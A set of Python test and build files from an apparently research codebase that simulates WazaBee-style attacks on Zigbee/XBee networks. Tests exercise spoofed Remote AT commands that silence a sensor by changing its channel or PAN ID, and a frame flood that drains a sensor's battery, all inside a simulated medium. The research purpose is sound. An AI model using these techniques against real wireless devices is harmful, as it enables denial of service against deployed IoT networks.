        for j, channel in enumerate(front.channels):
            frame = decoded.frames[s * num_channels + j]
            if frame is None:
                per_channel[str(channel)] = {"found": False}
            else:
                per_channel[str(channel)] = {
                    "found": True,
                    "psdu": frame.psdu.hex(),
                    "fcs_ok": frame.fcs_ok,
                    "sfd_index": frame.sfd_index,
                    "sync_start": frame.sync_start,
                    "llr_margin": min(frame.llrs),
                }
        cells[str(slot_channel)] = per_channel
    return cells


def build_wideband() -> Dict:
    from repro.phy.channelizer import WidebandGrid

    grid = WidebandGrid()
    return {
        "seed": WIDEBAND_SEED,
        "mode": "time",
        "samples_per_chip": 8,
        "grid": {
            "channel_rate_hz": int(grid.channel_rate),
            "oversample": int(grid.oversample),
        },
        "slot_channels": list(WIDEBAND_SLOT_CHANNELS),
        "slots": wideband_decisions(mode="time"),
    }


#: Pinned parameters of the fleet campaign vector.
FLEET_SEED = 24
FLEET_NODES = 24
FLEET_PANS = 2
FLEET_DURATION_S = 1.0
FLEET_FLOOD_RATE_HZ = 100.0


def build_fleet() -> Dict:
    from repro.experiments.fleet import run_fleet_campaign
    from repro.zigbee.fleet import make_fleet

    spec = make_fleet(
        num_nodes=FLEET_NODES, num_pans=FLEET_PANS, seed=FLEET_SEED
    )
    result = run_fleet_campaign(
        spec,
        duration_s=FLEET_DURATION_S,
        attack=True,
        flood_rate_hz=FLEET_FLOOD_RATE_HZ,
        medium_kind="sharded",
    )
    assert result.ledger_balanced, "golden fleet campaign ledger unbalanced"
    doc = result.to_dict()
    doc["seed"] = FLEET_SEED
    return doc


CORPUS = {
    "table1_pn_sequences.json": build_table1,
    "algorithm1_msk.json": build_algorithm1,
    "tx_streams.json": build_tx_streams,
    "roundtrip.json": build_roundtrip,
    "wideband.json": build_wideband,
    "fleet.json": build_fleet,
}


def render(name: str) -> str:
    """Canonical serialisation — the byte-stability contract."""
    return json.dumps(CORPUS[name](), indent=2, sort_keys=True) + "\n"


def main() -> int:
    for name in CORPUS:
        path = GOLDEN_DIR / name
        path.write_text(render(name), encoding="utf-8")
        print(f"wrote {path}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
