"""Tests for the XBee network nodes (§VI-A setup)."""

import numpy as np
import pytest

from repro.dot15d4.frames import Address, build_data
from repro.zigbee.network import CoordinatorNode, SensorNode
from repro.zigbee.xbee import AtCommand, RemoteAtCommand

PAN = 0x1234
COORD = Address(pan_id=PAN, address=0x0042)
SENSOR = Address(pan_id=PAN, address=0x0063)


@pytest.fixture()
def network(quiet_medium):
    coordinator = CoordinatorNode(
        quiet_medium, address=COORD, position=(0, 0), rng=np.random.default_rng(1)
    )
    sensor = SensorNode(
        quiet_medium,
        address=SENSOR,
        coordinator=COORD,
        position=(2, 0),
        report_interval_s=0.5,
        value_source=lambda: 21,
        rng=np.random.default_rng(2),
    )
    coordinator.start()
    sensor.start()
    return coordinator, sensor, quiet_medium.scheduler


class TestReporting:
    def test_periodic_reports_reach_display(self, network):
        coordinator, sensor, sched = network
        sched.run(2.6)
        assert sensor.reports_sent == 5
        assert len(coordinator.display) == 5
        assert all(e.value == 21 for e in coordinator.display)
        assert all(e.source == SENSOR.address for e in coordinator.display)

    def test_counters_increment(self, network):
        coordinator, _, sched = network
        sched.run(2.6)
        counters = [e.counter for e in coordinator.display]
        assert counters == sorted(counters)
        assert len(set(counters)) == len(counters)

    def test_reports_are_acknowledged(self, network):
        coordinator, sensor, sched = network
        sched.run(1.1)
        assert sensor.mac.stats.acks_received >= 2

    def test_stop_halts_reporting(self, network):
        _, sensor, sched = network
        sched.run(0.6)
        sensor.stop()
        count = sensor.reports_sent
        sched.run(2.0)
        assert sensor.reports_sent == count


class TestRemoteAt:
    def test_channel_change_applied(self, network):
        coordinator, sensor, sched = network
        cmd = RemoteAtCommand(command=AtCommand.CHANNEL, parameter=bytes([26]))
        frame = build_data(COORD, SENSOR, cmd.to_payload(), sequence_number=0x90,
                           ack_request=False)
        coordinator.mac.send_frame(frame)
        sched.run(0.01)
        assert sensor.radio.channel == 26
        assert any("CH" in line for line in sensor.config_log)

    def test_channel_change_silences_sensor(self, network):
        """The DoS effect: after the channel change the coordinator stops
        hearing the sensor."""
        coordinator, sensor, sched = network
        sched.run(0.6)
        before = len(coordinator.display)
        cmd = RemoteAtCommand(command=AtCommand.CHANNEL, parameter=bytes([26]))
        coordinator.mac.send_frame(
            build_data(COORD, SENSOR, cmd.to_payload(), sequence_number=0x91,
                       ack_request=False)
        )
        sched.run(2.0)
        assert sensor.radio.channel == 26
        assert len(coordinator.display) == before

    def test_pan_change_applied(self, network):
        _, sensor, sched = network
        cmd = RemoteAtCommand(command=AtCommand.PAN_ID, parameter=(0x4242).to_bytes(2, "little"))
        frame = build_data(COORD, SENSOR, cmd.to_payload(), sequence_number=0x92,
                           ack_request=False)
        from repro.chips.rzusbstick import Dot15d4Radio

        injector = Dot15d4Radio(
            sensor.radio.transceiver.medium, position=(0, 1),
            rng=np.random.default_rng(9),
        )
        injector.set_channel(14)
        injector.transmit_frame(frame)
        sched.run(0.01)
        assert sensor.address.pan_id == 0x4242

    def test_remote_at_disabled_rejects(self, quiet_medium):
        sensor = SensorNode(
            quiet_medium,
            address=SENSOR,
            coordinator=COORD,
            rng=np.random.default_rng(3),
        )
        sensor.remote_at_enabled = False
        sensor.start()
        injector = CoordinatorNode(
            quiet_medium, address=COORD, position=(1, 0),
            rng=np.random.default_rng(4),
        )
        injector.start()
        cmd = RemoteAtCommand(command=AtCommand.CHANNEL, parameter=bytes([26]))
        injector.mac.send_frame(
            build_data(COORD, SENSOR, cmd.to_payload(), sequence_number=1,
                       ack_request=False)
        )
        quiet_medium.scheduler.run(0.01)
        assert sensor.radio.channel == 14
        assert any("rejected" in line for line in sensor.config_log)

    def test_unknown_at_command_ignored(self, network):
        coordinator, sensor, sched = network
        cmd = RemoteAtCommand(command=b"ZZ", parameter=b"")
        coordinator.mac.send_frame(
            build_data(COORD, SENSOR, cmd.to_payload(), sequence_number=0x93,
                       ack_request=False)
        )
        sched.run(0.01)
        assert sensor.radio.channel == 14
        assert any("ignored" in line for line in sensor.config_log)
