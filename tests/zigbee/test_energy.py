"""Tests for the battery model and the energy-depletion attack."""

import numpy as np
import pytest

from repro.attacks.energy_depletion import EnergyDepletionAttack
from repro.chips import Nrf52832
from repro.core.firmware import WazaBeeFirmware
from repro.dot15d4.frames import Address
from repro.zigbee.energy import Battery, EnergyProfile
from repro.zigbee.network import CoordinatorNode, SensorNode

COORD = Address(pan_id=0x1234, address=0x42)
SENSOR = Address(pan_id=0x1234, address=0x63)


class TestEnergyProfile:
    def test_tx_cost_scales_with_airtime(self):
        profile = EnergyProfile()
        assert profile.cost("tx", 2e-3) == pytest.approx(2 * profile.cost("tx", 1e-3))

    def test_rx_includes_wakeup(self):
        profile = EnergyProfile()
        assert profile.cost("rx", 0.0) == profile.wakeup_cost_j

    def test_unknown_kind(self):
        with pytest.raises(ValueError):
            EnergyProfile().cost("sleep", 1.0)


class TestBattery:
    def test_charges_and_depletes(self):
        battery = Battery(capacity_j=1e-3)
        battery.charge_activity("tx", 1e-2)  # 0.9 mJ
        assert not battery.depleted
        battery.charge_activity("tx", 1e-2)
        assert battery.depleted
        assert battery.remaining_j == 0.0

    def test_no_charge_after_depletion(self):
        battery = Battery(capacity_j=1e-6)
        battery.charge_activity("tx", 1.0)
        entries = len(battery.ledger)
        battery.charge_activity("tx", 1.0)
        assert len(battery.ledger) == entries

    def test_ledger_by_kind(self):
        battery = Battery(capacity_j=1.0)
        battery.charge_activity("tx", 1e-3)
        battery.charge_activity("rx", 1e-3)
        assert battery.consumed_by("tx") > 0
        assert battery.consumed_by("rx") > battery.consumed_by("tx")

    def test_fraction_remaining(self):
        battery = Battery(capacity_j=2.0)
        battery.charge_activity("tx", 1.0 / battery.profile.tx_power_w)
        assert battery.fraction_remaining == pytest.approx(0.5)


class TestDepletionAttack:
    def _network(self, quiet_medium, capacity_j):
        battery = Battery(capacity_j=capacity_j)
        coordinator = CoordinatorNode(
            quiet_medium, COORD, position=(3, 0), rng=np.random.default_rng(1)
        )
        sensor = SensorNode(
            quiet_medium,
            SENSOR,
            COORD,
            position=(3, 1.5),
            battery=battery,
            rng=np.random.default_rng(2),
        )
        coordinator.start()
        sensor.start()
        return battery, sensor, coordinator

    def test_baseline_consumption_is_modest(self, quiet_medium, scheduler):
        battery, _, _ = self._network(quiet_medium, capacity_j=0.05)
        scheduler.run(20.0)
        assert not battery.depleted
        assert battery.fraction_remaining > 0.8

    def test_flood_depletes_battery(self, quiet_medium, scheduler):
        battery, sensor, _ = self._network(quiet_medium, capacity_j=0.05)
        chip = Nrf52832(quiet_medium, position=(0, 0), rng=np.random.default_rng(3))
        firmware = WazaBeeFirmware(chip, scheduler)
        attack = EnergyDepletionAttack(
            firmware,
            target=SENSOR,
            spoofed_source=Address(pan_id=0x1234, address=0x99),
            channel=14,
            rate_hz=40.0,
        )
        attack.start()
        scheduler.run(20.0)
        assert battery.depleted
        assert attack.frames_sent > 100
        assert "battery depleted" in sensor.config_log[-1]
        # Most of the drain is forced receptions, plus forced ACKs.
        assert battery.consumed_by("rx") > battery.consumed_by("tx")

    def test_attack_rate_validation(self, quiet_medium, scheduler):
        chip = Nrf52832(quiet_medium, rng=np.random.default_rng(3))
        firmware = WazaBeeFirmware(chip, scheduler)
        attack = EnergyDepletionAttack(
            firmware, target=SENSOR, spoofed_source=COORD, channel=14, rate_hz=0
        )
        with pytest.raises(ValueError):
            attack.start()

    def test_stop_halts_flood(self, quiet_medium, scheduler):
        battery, _, _ = self._network(quiet_medium, capacity_j=1.0)
        chip = Nrf52832(quiet_medium, position=(0, 0), rng=np.random.default_rng(3))
        firmware = WazaBeeFirmware(chip, scheduler)
        attack = EnergyDepletionAttack(
            firmware,
            target=SENSOR,
            spoofed_source=COORD,
            channel=14,
            rate_hz=40.0,
        )
        attack.start()
        scheduler.run(2.0)
        attack.stop()
        sent = attack.frames_sent
        scheduler.run(2.0)
        assert attack.frames_sent == sent
