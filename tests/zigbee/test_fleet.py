"""Fleet topology builder and campaign runner.

Covers the structural contract of :func:`make_fleet` (determinism,
addressing, mesh uplinks), and the campaign-level equivalences the
sharded medium promises: serial == process-sharded, sharded == dense
with the same cutoff, and a balanced delivery ledger after every run.
"""

import pytest

from repro.experiments.fleet import (
    format_fleet_report,
    run_fleet_campaign,
)
from repro.zigbee.fleet import (
    COORDINATOR_ADDRESS,
    ROUTER_ADDRESS_BASE,
    SENSOR_ADDRESS_BASE,
    make_fleet,
)


class TestMakeFleet:
    def test_deterministic(self):
        a = make_fleet(num_nodes=24, num_pans=2, seed=7)
        b = make_fleet(num_nodes=24, num_pans=2, seed=7)
        assert a == b

    def test_seed_changes_layout(self):
        a = make_fleet(num_nodes=24, num_pans=2, seed=7)
        b = make_fleet(num_nodes=24, num_pans=2, seed=8)
        assert a != b

    def test_structure_and_addressing(self):
        spec = make_fleet(num_nodes=24, num_pans=2, seed=0)
        assert spec.num_nodes == 24
        assert len(spec.pans) == 2
        names = [n.name for pan in spec.pans for n in pan.nodes]
        assert len(names) == len(set(names))
        for pan in spec.pans:
            coord = pan.coordinator
            assert coord.role == "coordinator"
            assert coord.address == COORDINATOR_ADDRESS
            for node in pan.nodes:
                if node.role == "router":
                    assert node.address >= ROUTER_ADDRESS_BASE
                elif node.role == "sensor":
                    assert node.address >= SENSOR_ADDRESS_BASE

    def test_channels_distinct_without_reuse(self):
        spec = make_fleet(num_nodes=16, num_pans=4, seed=0)
        channels = [pan.channel for pan in spec.pans]
        assert len(set(channels)) == 4
        reuse = make_fleet(num_nodes=16, num_pans=4, seed=0, channel_reuse=True)
        assert len({pan.channel for pan in reuse.pans}) == 1

    def test_mesh_routes_some_sensors_via_routers(self):
        spec = make_fleet(num_nodes=24, num_pans=2, seed=0, mesh=True)
        sensors = [
            n for pan in spec.pans for n in pan.nodes if n.role == "sensor"
        ]
        uplinks = {s.uplink for s in sensors}
        assert COORDINATOR_ADDRESS in uplinks
        assert any(u >= ROUTER_ADDRESS_BASE for u in uplinks)

    def test_no_mesh_has_no_routers(self):
        spec = make_fleet(num_nodes=24, num_pans=2, seed=0, mesh=False)
        roles = {n.role for pan in spec.pans for n in pan.nodes}
        assert "router" not in roles

    def test_rejects_undersized_fleet(self):
        with pytest.raises(ValueError):
            make_fleet(num_nodes=3, num_pans=2)


class TestCampaign:
    @pytest.fixture(scope="class")
    def spec(self):
        return make_fleet(num_nodes=12, num_pans=2, seed=4)

    def test_ledger_balances_and_report_renders(self, spec):
        result = run_fleet_campaign(
            spec, duration_s=1.0, attack=True, flood_rate_hz=80.0
        )
        assert result.ledger_balanced
        assert result.flood_frames > 0
        assert len(result.reports) == 12
        report = format_fleet_report(result)
        assert "balanced" in report and "UNBALANCED" not in report

    def test_router_forwarding_counted(self, spec):
        result = run_fleet_campaign(spec, duration_s=1.5, attack=False)
        routers = [r for r in result.reports if r.role == "router"]
        assert routers
        assert sum(r.forwarded for r in routers) > 0

    def test_serial_equals_process_sharded(self, spec):
        serial = run_fleet_campaign(spec, duration_s=1.0, workers=1)
        parallel = run_fleet_campaign(spec, duration_s=1.0, workers=2)
        assert [r.to_dict() for r in serial.reports] == [
            r.to_dict() for r in parallel.reports
        ]
        assert serial.alive_curve == parallel.alive_curve
        assert serial.battery_curve == parallel.battery_curve
        assert serial.ledger == parallel.ledger

    def test_sharded_equals_dense_with_cutoff(self, spec):
        sharded = run_fleet_campaign(spec, duration_s=1.0, medium_kind="sharded")
        dense = run_fleet_campaign(spec, duration_s=1.0, medium_kind="dense")
        assert [r.to_dict() for r in sharded.reports] == [
            r.to_dict() for r in dense.reports
        ]
        assert sharded.battery_curve == dense.battery_curve
        assert sharded.ledger == dense.ledger

    def test_chaos_with_workers_rejected(self, spec):
        with pytest.raises(ValueError):
            run_fleet_campaign(spec, duration_s=0.5, workers=2, chaos="dropout")

    def test_attack_drains_more_battery(self, spec):
        quiet = run_fleet_campaign(spec, duration_s=1.5, attack=False)
        loud = run_fleet_campaign(
            spec, duration_s=1.5, attack=True, flood_rate_hz=120.0
        )
        assert loud.battery_curve[-1] < quiet.battery_curve[-1]
        assert quiet.flood_frames == 0
