"""Tests for the XBee application payload formats."""

import pytest
from hypothesis import given, strategies as st

from repro.zigbee.xbee import (
    AppFrameType,
    AtCommand,
    RemoteAtCommand,
    SensorReading,
    XBEE_DEFAULTS,
    parse_app_payload,
)


class TestDefaults:
    def test_remote_at_enabled_by_default(self):
        """The insecure factory default the attack relies on."""
        assert XBEE_DEFAULTS.remote_at_enabled

    def test_network_parameters(self):
        assert XBEE_DEFAULTS.channel == 14
        assert XBEE_DEFAULTS.pan_id == 0x1234


class TestSensorReading:
    def test_roundtrip(self):
        reading = SensorReading(counter=300, value=21)
        assert SensorReading.from_payload(reading.to_payload()) == reading

    def test_payload_layout(self):
        payload = SensorReading(counter=1, value=2).to_payload()
        assert payload[0] == AppFrameType.SENSOR_READING
        assert len(payload) == 5

    def test_counter_wraps(self):
        reading = SensorReading(counter=0x1FFFF, value=0)
        assert SensorReading.from_payload(reading.to_payload()).counter == 0xFFFF

    def test_wrong_type_rejected(self):
        with pytest.raises(ValueError):
            SensorReading.from_payload(b"\x17\x00\x00\x00\x00")

    @given(st.integers(0, 0xFFFF), st.integers(0, 0xFFFF))
    def test_roundtrip_property(self, counter, value):
        reading = SensorReading(counter=counter, value=value)
        assert SensorReading.from_payload(reading.to_payload()) == reading


class TestRemoteAtCommand:
    def test_roundtrip(self):
        cmd = RemoteAtCommand(command=AtCommand.CHANNEL, parameter=b"\x1a")
        back = RemoteAtCommand.from_payload(cmd.to_payload())
        assert back.command == b"CH"
        assert back.parameter == b"\x1a"
        assert back.apply_changes

    def test_apply_flag(self):
        cmd = RemoteAtCommand(command=b"ID", apply_changes=False)
        assert not RemoteAtCommand.from_payload(cmd.to_payload()).apply_changes

    def test_command_name_length(self):
        with pytest.raises(ValueError):
            RemoteAtCommand(command=b"CHX")

    def test_truncated_rejected(self):
        with pytest.raises(ValueError):
            RemoteAtCommand.from_payload(b"\x17\x01")


class TestDispatch:
    def test_parse_sensor(self):
        app = parse_app_payload(SensorReading(1, 2).to_payload())
        assert isinstance(app, SensorReading)

    def test_parse_remote_at(self):
        app = parse_app_payload(RemoteAtCommand(command=b"CH").to_payload())
        assert isinstance(app, RemoteAtCommand)

    def test_unknown_returns_none(self):
        assert parse_app_payload(b"\x99\x01") is None
        assert parse_app_payload(b"") is None

    def test_malformed_returns_none(self):
        assert parse_app_payload(b"\x10\x01") is None  # truncated reading
