"""Audit: firmware frame accounting vs the receiver's trace ledger.

:attr:`WazaBeeFirmware.raw_frames_seen` claims to count every frame the
firmware's handlers received — FCS-valid *and* corrupted — while sniffing
(the sniffer routes both through ``_on_frame``).  The receiver's ledger
counts the same deliveries as ``rx.frames.valid_delivered`` +
``rx.frames.corrupt_delivered``, and FCS-failed frames arriving with *no*
corrupt handler as ``rx.drops.corrupt`` (mirrored by
:attr:`WazaBeeReceiver.corrupt_drops`).  These tests pin the exact
reconciliation in both configurations, under a chaos profile that
actually produces corrupted frames.
"""

import numpy as np
import pytest

from repro.chips import Nrf52832, RzUsbStick
from repro.core.firmware import WazaBeeFirmware
from repro.dot15d4.frames import Address, build_data
from repro.experiments.environment import build_testbed
from repro.faults import named_profile
from repro.obs import RX_FCS, TraceRecorder, scoped

_SRC = Address(pan_id=0x1234, address=0x0063)
_DST = Address(pan_id=0x1234, address=0x0042)

CHANNEL = 17
FRAMES = 40


def _stand_up(registry_seed=3):
    testbed = build_testbed(
        seed=registry_seed,
        fault_plan=named_profile("flaky-rx", channel=CHANNEL, seed=3),
    )
    chip = Nrf52832(
        testbed.medium,
        position=testbed.attacker_position,
        rng=testbed.device_rng(1),
    )
    reference = RzUsbStick(
        testbed.medium,
        position=testbed.reference_position,
        rng=testbed.device_rng(2),
    )
    reference.set_channel(CHANNEL)
    firmware = WazaBeeFirmware(chip, testbed.scheduler)
    return testbed, reference, firmware


def _drive(testbed, reference):
    for i in range(FRAMES):
        frame = build_data(
            _SRC, _DST, b"\x10" + bytes([i]), sequence_number=i & 0xFF
        )
        reference.transmit_frame(frame)
        testbed.scheduler.run(2e-3)


class TestSnifferAccounting:
    def test_raw_frames_seen_equals_delivered_ledger(self):
        with scoped() as (bus, registry):
            recorder = TraceRecorder(bus)
            testbed, reference, firmware = _stand_up()
            firmware.start_sniffer(CHANNEL, lambda _f, _d: None)
            _drive(testbed, reference)
            firmware.stop_sniffer()

            counters = registry.counter_values()
            valid = counters.get("rx.frames.valid_delivered", 0)
            corrupt = counters.get("rx.frames.corrupt_delivered", 0)
            # The chaos profile must have produced both kinds, or the
            # reconciliation below proves nothing.
            assert valid > 0 and corrupt > 0
            # The audit target: the firmware's monotonic count equals the
            # receiver's delivered ledger, with nothing dropped.
            assert firmware.raw_frames_seen == valid + corrupt
            assert firmware.raw_frames_seen == counters["firmware.raw_frames"]
            assert firmware.receiver.corrupt_drops == 0
            assert counters.get("rx.drops.corrupt", 0) == 0
            # Trace agrees with the counters: one FCS verdict per delivery.
            assert recorder.count(RX_FCS, ok=True) == valid
            assert recorder.count(RX_FCS, ok=False) == corrupt

    def test_sniffed_frames_only_counts_fcs_valid(self):
        with scoped() as (_bus, registry):
            testbed, reference, firmware = _stand_up()
            seen = []
            firmware.start_sniffer(
                CHANNEL, lambda frame, decoded: seen.append(decoded)
            )
            _drive(testbed, reference)
            firmware.stop_sniffer()
            counters = registry.counter_values()
            assert len(seen) == counters["firmware.sniffed_frames"]
            assert all(decoded.fcs_ok for decoded in seen)
            assert (
                counters["firmware.sniffed_frames"]
                == counters["rx.frames.valid_delivered"]
            )


class TestRawFrameCapAccounting:
    def test_ring_buffer_eviction_is_counted_never_silent(self):
        """When ``raw_frames`` hits its cap, evictions are tallied in
        ``raw_frames_dropped``, the metrics counter and a trace event —
        the invariant ``len(raw_frames) + dropped == seen`` always holds."""
        from collections import deque

        from repro.obs import FIRMWARE_DROP

        cap = 6
        with scoped() as (bus, registry):
            recorder = TraceRecorder(bus)
            testbed, reference, firmware = _stand_up()
            # Shrink the retention ring so a short drive overflows it.
            firmware.raw_frames = deque(maxlen=cap)
            firmware.start_sniffer(CHANNEL, lambda _f, _d: None)
            _drive(testbed, reference)
            firmware.stop_sniffer()

            assert firmware.raw_frames_seen > cap  # the cap was exceeded
            assert len(firmware.raw_frames) == cap
            expected_drops = firmware.raw_frames_seen - cap
            assert firmware.raw_frames_dropped == expected_drops
            counters = registry.counter_values()
            assert counters["firmware.raw_frames_dropped"] == expected_drops
            # One trace event per eviction, and the last one carries the
            # running total.
            drops = [e for e in recorder.events if e.name == FIRMWARE_DROP]
            assert len(drops) == expected_drops
            assert drops[-1].fields["dropped_total"] == expected_drops
            assert drops[-1].fields["cap"] == cap

    def test_no_drops_below_the_cap(self):
        with scoped() as (_bus, registry):
            testbed, reference, firmware = _stand_up()
            firmware.start_sniffer(CHANNEL, lambda _f, _d: None)
            _drive(testbed, reference)
            firmware.stop_sniffer()
            assert firmware.raw_frames_seen <= 4096  # RAW_FRAME_CAP
            assert firmware.raw_frames_dropped == 0
            assert "firmware.raw_frames_dropped" not in registry.counter_values()


class TestNoCorruptHandlerAccounting:
    def test_corrupt_drops_mirror_the_drop_counter(self):
        """Without a corrupt handler, FCS-failed frames are dropped and
        counted — never silently lost, never double-counted."""
        with scoped() as (_bus, registry):
            testbed, reference, firmware = _stand_up()
            delivered = []
            # Bare receiver start: main handler only, no salvage path.
            firmware.receiver.start(CHANNEL, delivered.append)
            _drive(testbed, reference)
            firmware.receiver.stop()

            counters = registry.counter_values()
            drops = counters.get("rx.drops.corrupt", 0)
            assert drops > 0  # the profile corrupts some frames
            assert firmware.receiver.corrupt_drops == drops
            assert counters.get("rx.frames.corrupt_delivered", 0) == 0
            assert len(delivered) == counters["rx.frames.valid_delivered"]
            # Conservation: every FCS verdict is either a delivery or a
            # counted drop.
            assert (
                counters["rx.fcs.ok"] + counters["rx.fcs.fail"]
                == len(delivered) + drops
            )
            # The firmware never saw the dropped frames: its raw count
            # stays zero because _on_frame was bypassed entirely.
            assert firmware.raw_frames_seen == 0
