"""Unit tests for the observability primitives: bus, metrics, recorder."""

import io
import json

import pytest

from repro.obs import (
    EVENT_NAMES,
    RX_DECODE,
    TX_FRAME,
    JsonlTraceWriter,
    MetricsRegistry,
    TraceBus,
    TraceRecorder,
    metrics,
    scoped,
    trace_bus,
    write_events_jsonl,
)
from repro.obs.metrics import TIMER_BUCKET_BOUNDS


class TestTraceBus:
    def test_inactive_without_subscribers(self):
        bus = TraceBus()
        assert not bus.active
        bus.emit(TX_FRAME, time=1.0, channel=14)
        assert bus.events_emitted == 0  # dropped before sequencing

    def test_events_are_sequenced_in_emission_order(self):
        bus = TraceBus()
        with TraceRecorder(bus) as recorder:
            bus.emit(TX_FRAME, time=0.5, channel=11)
            bus.emit(RX_DECODE, time=0.6, outcome="ok")
        assert [e.seq for e in recorder.events] == [1, 2]
        assert [e.name for e in recorder.events] == [TX_FRAME, RX_DECODE]
        assert recorder.events[0].fields == {"channel": 11}

    def test_unsubscribe_stops_delivery(self):
        bus = TraceBus()
        recorder = TraceRecorder(bus)
        bus.emit(TX_FRAME)
        recorder.close()
        bus.emit(TX_FRAME)
        assert len(recorder) == 1
        assert not bus.active

    def test_event_as_dict_is_flat(self):
        bus = TraceBus()
        with TraceRecorder(bus) as recorder:
            bus.emit(RX_DECODE, time=2.5, outcome="no-sfd", channel=15)
        flat = recorder.as_dicts()[0]
        assert flat == {
            "seq": 1,
            "time": 2.5,
            "event": RX_DECODE,
            "outcome": "no-sfd",
            "channel": 15,
        }

    def test_typed_event_names_registered(self):
        assert {
            "tx.frame",
            "medium.delivery",
            "rx.capture",
            "rx.decode",
            "rx.fcs",
            "mac.retry",
            "fault.injected",
            "attack.stage",
            "firmware.drop",
            "serve.session",
            "serve.shed",
            "serve.stage",
            "channelizer.split",
            "channelizer.compose",
            "fleet.sample",
        } == set(EVENT_NAMES)


class TestScoped:
    def test_scope_swaps_and_restores_current_pair(self):
        outer_bus, outer_metrics = trace_bus(), metrics()
        with scoped() as (bus, registry):
            assert trace_bus() is bus and bus is not outer_bus
            assert metrics() is registry and registry is not outer_metrics
        assert trace_bus() is outer_bus
        assert metrics() is outer_metrics

    def test_nested_scopes_restore_in_order(self):
        with scoped() as (bus1, _):
            with scoped() as (bus2, _):
                assert trace_bus() is bus2
            assert trace_bus() is bus1

    def test_scoped_events_do_not_bleed(self):
        with scoped() as (bus1, _):
            rec1 = TraceRecorder(bus1)
            bus1.emit(TX_FRAME)
        with scoped() as (bus2, _):
            rec2 = TraceRecorder(bus2)
            bus2.emit(TX_FRAME)
            bus2.emit(TX_FRAME)
        assert len(rec1) == 1
        assert len(rec2) == 2


class TestMetricsRegistry:
    def test_counter_create_on_first_use(self):
        registry = MetricsRegistry()
        registry.counter("a").inc()
        registry.counter("a").inc(2)
        assert registry.counter("a").value == 3

    def test_counter_values_sorted_and_deterministic(self):
        registry = MetricsRegistry()
        registry.counter("zeta").inc()
        registry.counter("alpha").inc(5)
        assert list(registry.counter_values()) == ["alpha", "zeta"]
        assert registry.counter_values() == {"alpha": 5, "zeta": 1}

    def test_gauge_holds_latest_value(self):
        registry = MetricsRegistry()
        registry.gauge("depth").set(3)
        registry.gauge("depth").set(7.5)
        assert registry.gauge("depth").value == 7.5

    def test_timer_histogram_and_stats(self):
        registry = MetricsRegistry()
        timer = registry.timer("stage")
        timer.observe(5e-6)   # second bucket (1e-5)
        timer.observe(5e-4)   # fourth bucket (1e-3)
        timer.observe(20.0)   # overflow bucket
        assert timer.count == 3
        assert timer.min_s == 5e-6
        assert timer.max_s == 20.0
        assert timer.mean_s == pytest.approx((5e-6 + 5e-4 + 20.0) / 3)
        assert sum(timer.buckets) == 3
        assert timer.buckets[-1] == 1
        assert len(timer.buckets) == len(TIMER_BUCKET_BOUNDS) + 1

    def test_timer_context_manager_measures_spans(self):
        registry = MetricsRegistry()
        with registry.timer("stage").time():
            pass
        assert registry.timer("stage").count == 1
        assert registry.timer("stage").total_s >= 0.0

    def test_snapshot_separates_deterministic_from_wall_clock(self):
        registry = MetricsRegistry()
        registry.counter("c").inc()
        registry.gauge("g").set(2)
        registry.timer("t").observe(0.01)
        full = registry.snapshot()
        assert set(full) == {"counters", "gauges", "timers"}
        deterministic = registry.snapshot(include_timers=False)
        assert set(deterministic) == {"counters", "gauges"}
        assert deterministic["counters"] == {"c": 1}

    def test_format_lists_every_metric(self):
        registry = MetricsRegistry()
        registry.counter("frames").inc(4)
        registry.gauge("depth").set(1)
        registry.timer("stage").observe(0.001)
        text = registry.format()
        assert "frames" in text and "depth" in text and "stage" in text
        assert "stage" not in registry.format(include_timers=False)


class TestJsonlExport:
    def test_writer_streams_sorted_key_lines(self):
        bus = TraceBus()
        sink = io.StringIO()
        with JsonlTraceWriter(sink, bus) as writer:
            bus.emit(TX_FRAME, time=1.0, channel=14, psdu_bytes=10)
            assert writer.events_written == 1
        lines = sink.getvalue().splitlines()
        assert len(lines) == 1
        record = json.loads(lines[0])
        assert record["event"] == TX_FRAME
        assert list(record) == sorted(record)

    def test_write_events_jsonl_roundtrips(self, tmp_path):
        events = [
            {"seq": 1, "time": 0.0, "event": "tx.frame", "channel": 11},
            {"seq": 2, "time": 0.1, "event": "rx.capture", "bits": 1281},
        ]
        path = tmp_path / "trace.jsonl"
        assert write_events_jsonl(events, str(path)) == 2
        loaded = [
            json.loads(line) for line in path.read_text().splitlines()
        ]
        assert loaded == events


class TestRecorderFilters:
    def test_count_with_field_filters(self):
        bus = TraceBus()
        with TraceRecorder(bus) as recorder:
            bus.emit(RX_DECODE, outcome="ok")
            bus.emit(RX_DECODE, outcome="ok")
            bus.emit(RX_DECODE, outcome="no-sfd")
        assert recorder.count(RX_DECODE) == 3
        assert recorder.count(RX_DECODE, outcome="ok") == 2
        assert recorder.count(RX_DECODE, outcome="truncated") == 0
        assert recorder.counts_by_name() == {RX_DECODE: 3}
        assert len(recorder.named(RX_DECODE)) == 3
