"""Trace-ledger integration: Table III cells must reconcile exactly.

Every frame entering a traced cell has to be accounted for: scheduled
deliveries resolve to delivered or skipped, captures resolve to a decode
outcome, decodes resolve to an FCS verdict, and the cell's reported
(valid, corrupted, lost) tallies match the event ledger — under chaos
profiles too.  A second block pins determinism: the same seed produces
the same event stream, byte for byte.
"""

import pytest

from repro.experiments.table3 import run_table3_cell
from repro.obs import FAULT_INJECTED, MEDIUM_DELIVERY, RX_CAPTURE, RX_DECODE, RX_FCS


def _count(events, name, **fields):
    total = 0
    for event in events:
        if event["event"] != name:
            continue
        if all(event.get(key) == value for key, value in fields.items()):
            total += 1
    return total


def _run(profile, frames=40, channel=17, seed=3):
    return run_table3_cell(
        "nRF52832",
        "rx",
        channel=channel,
        frames=frames,
        seed=seed,
        fault_profile=profile,
        collect_trace=True,
    )


class TestLedgerReconciliation:
    """frames_in == delivered + dropped (+ corrupted routing) — exactly."""

    @pytest.mark.parametrize("profile", ["dropout", "flaky-rx"])
    def test_delivery_ledger_balances(self, profile):
        cell = _run(profile)
        events = cell.trace_events
        scheduled = _count(events, MEDIUM_DELIVERY, status="scheduled")
        delivered = _count(events, MEDIUM_DELIVERY, status="delivered")
        skipped = _count(events, MEDIUM_DELIVERY, status="skipped")
        suppressed = _count(events, MEDIUM_DELIVERY, status="suppressed")
        # Every candidate delivery resolves exactly one way...
        assert scheduled == delivered + skipped
        # ...and every frame put on the air was either scheduled for the
        # receiver or suppressed by a fault (these profiles emit no bursts,
        # so transmissions == the cell's input frames).
        assert scheduled + suppressed == cell.total
        # Fault drops are individually traced and match the suppressions.
